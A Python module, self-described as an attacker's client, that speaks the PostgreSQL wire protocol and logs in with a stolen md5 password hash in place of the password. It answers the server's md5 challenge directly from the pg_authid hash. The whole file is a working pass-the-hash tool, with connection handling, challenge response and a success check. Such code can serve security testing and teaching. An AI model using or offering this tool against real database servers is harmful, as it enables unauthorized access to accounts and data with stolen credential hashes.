"""An attacker's client speaking the Postgres wire protocol (v3): logs in with a stolen md5
password hash instead of the password (libpq cannot: it always hashes what it is given).

postgres' md5 challenge asks for "md5" + md5(md5(password + user) + salt): md5(password + user)
is exactly what pg_authid.rolpassword holds after its "md5" prefix, so the hash alone answers.

    offered, ok, error = login_with_hash("127.0.0.1", port, "victim", "postgres", "md5<32 hex>")

`offered` is the authentication the server asked for (AUTH_MD5, AUTH_SASL, ...), `ok` whether
it let us in (we answer an md5 challenge only; any other method ends the attempt there).
"""

from __future__ import annotations

import hashlib
import socket
import struct

AUTH_OK, AUTH_CLEARTEXT, AUTH_MD5, AUTH_SASL = 0, 3, 5, 10
PROTOCOL_3 = 196608


def _recv_exact(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("server closed the connection")
        data += chunk
    return data


def _message(sock: socket.socket) -> tuple[bytes, bytes]:
    kind = _recv_exact(sock, 1)
    (length,) = struct.unpack("!I", _recv_exact(sock, 4))
    return kind, _recv_exact(sock, length - 4)


def _error_text(body: bytes) -> str:
    fields = {chr(p[0]): p[1:].decode("utf-8", "replace") for p in body.split(b"\0") if p}
    return f"{fields.get('S', 'ERROR')}: {fields.get('M', '')}"


def md5_answer(stored_hash: str, salt: bytes) -> bytes:
    """The answer to an md5 challenge, from pg_authid.rolpassword ("md5" + 32 hex) alone."""
    assert stored_hash.startswith("md5") and len(stored_hash) == 35
    return b"md5" + hashlib.md5(stored_hash[3:].encode() + salt).hexdigest().encode()


def login_with_hash(host: str, port: int, user: str, dbname: str, stored_hash: str,
                    timeout: float = 10) -> tuple[int, bool, str]:
    """(auth method offered, logged in, the server's error if any)."""
    with socket.create_connection((host, port), timeout=timeout) as sock:
        params = b"".join(k.encode() + b"\0" + v.encode() + b"\0"
                          for k, v in (("user", user), ("database", dbname))) + b"\0"
        sock.sendall(struct.pack("!II", len(params) + 8, PROTOCOL_3) + params)
        kind, body = _message(sock)
        if kind == b"E":
            return -1, False, _error_text(body)
        assert kind == b"R", kind
        (offered,) = struct.unpack_from("!I", body)
        if offered != AUTH_MD5:
            return offered, False, "not an md5 challenge"
        answer = md5_answer(stored_hash, body[4:8]) + b"\0"
        sock.sendall(b"p" + struct.pack("!I", len(answer) + 4) + answer)
        kind, body = _message(sock)
        if kind == b"E":
            return offered, False, _error_text(body)
        ok = kind == b"R" and struct.unpack_from("!I", body)[0] == AUTH_OK
        if ok:
            sock.sendall(b"X" + struct.pack("!I", 4))
        return offered, ok, ""
